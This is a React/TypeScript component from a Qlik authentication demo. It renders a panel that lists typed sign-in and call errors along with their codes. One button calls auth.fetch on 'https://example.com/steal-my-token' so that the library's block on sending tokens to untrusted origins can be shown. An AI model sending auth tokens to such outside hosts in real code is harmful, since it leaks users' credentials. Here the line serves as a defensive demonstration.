import { QlikAuthError, QlikAuthErrorCode, useQlikAuth } from '@qlik-auth/react';
import { formatTime } from '../clock.js';
import { codeOf, useErrorLog } from '../errors.js';

function ErrorEntry({ source, error, at }: { source: string; error: unknown; at?: number }) {
  const typed = error instanceof QlikAuthError ? error : undefined;
  const qlikErrors = typed?.qlikErrors ?? (error as { qlikErrors?: unknown[] })?.qlikErrors;
  return (
    <li className="error-entry" data-testid="error-entry" data-code={codeOf(error)}>
      <div className="error-head">
        <code className="error-code">{codeOf(error)}</code>
        <span className="muted">{source}</span>
        {at ? <time className="muted">{formatTime(at)}</time> : null}
      </div>
      <p>{(error as Error)?.message ?? String(error)}</p>
      {typed ? (
        <p className="muted small">
          retryable: {String(typed.retryable)}
          {typed.status ? ` · HTTP ${typed.status}` : ''}
        </p>
      ) : null}
      {qlikErrors?.length ? (
        <pre className="code small">
          <code>{JSON.stringify(qlikErrors, null, 2)}</code>
        </pre>
      ) : null}
    </li>
  );
}

/**
 * Every failure with its typed code: the session's own error (a denied or failed sign-in, an
 * ended session) straight from the snapshot, and the failures of the demo's calls.
 */
export function ErrorsPanel() {
  const { auth, error, status } = useQlikAuth();
  const { entries, report, clear } = useErrorLog();
  const count = entries.length + (error ? 1 : 0);
  return (
    <section className="card wide" data-testid="errors-panel" data-count={count}>
      <header className="card-head">
        <h2>
          Errors <span className="count">{count}</span>
        </h2>
        <code className="endpoint">QlikAuthError.code</code>
        {entries.length ? (
          <button type="button" className="button ghost small" onClick={clear}>
            Clear
          </button>
        ) : null}
      </header>
      {count ? (
        <ul className="errors">
          {error ? <ErrorEntry source={`session (${status})`} error={error} /> : null}
          {entries.map((entry) => (
            <ErrorEntry key={entry.id} source={entry.source} error={entry.error} at={entry.at} />
          ))}
        </ul>
      ) : (
        <p className="muted">No errors. Every failure shows up here with its typed code.</p>
      )}
      <div className="try">
        <button
          type="button"
          className="button ghost small"
          data-testid="try-untrusted-url"
          onClick={() =>
            void auth
              .fetch('https://example.com/steal-my-token')
              .catch((failure: unknown) => report("auth.fetch('https://example.com/…')", failure))
          }
        >
          Send the token to another origin
        </button>
        <details>
          <summary>All error codes</summary>
          <ul className="chips codes">
            {Object.values(QlikAuthErrorCode).map((code) => (
              <li key={code} className="tag">
                {code}
              </li>
            ))}
          </ul>
        </details>
      </div>
    </section>
  );
}
